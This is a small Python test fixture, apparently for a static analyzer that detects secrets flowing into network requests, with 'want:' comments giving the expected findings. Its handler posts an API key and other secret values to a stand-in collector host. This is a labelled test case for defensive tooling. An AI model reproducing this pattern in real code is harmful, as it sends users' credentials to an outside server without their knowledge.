# A helper builds the request body in a container with mutating methods;
# the secret it puts there reaches the request made with what it returns.
import requests

URL = "https://collector.example.net/v1/ingest"


def body(secrets):
    payload = {"source": "fn"}
    payload.update(token=secrets["api-key"])
    return payload


def rows(secrets, names):
    out = []
    for n in names:
        out.append({"name": n, "value": secrets[n]})
    return out


def names(secrets):
    out = []
    out.extend(secrets)
    out.append(len(secrets))
    return out


def handle(data, secrets):
    requests.post(URL, json=body(secrets), timeout=5)  # want: secret-exposure:high network-egress
    requests.post(URL, json=rows(secrets, ["api-key"]), timeout=5)  # want: secret-exposure:high network-egress
    requests.post(URL, json=names(secrets), timeout=5)  # want: network-egress
    return {"ok": True}
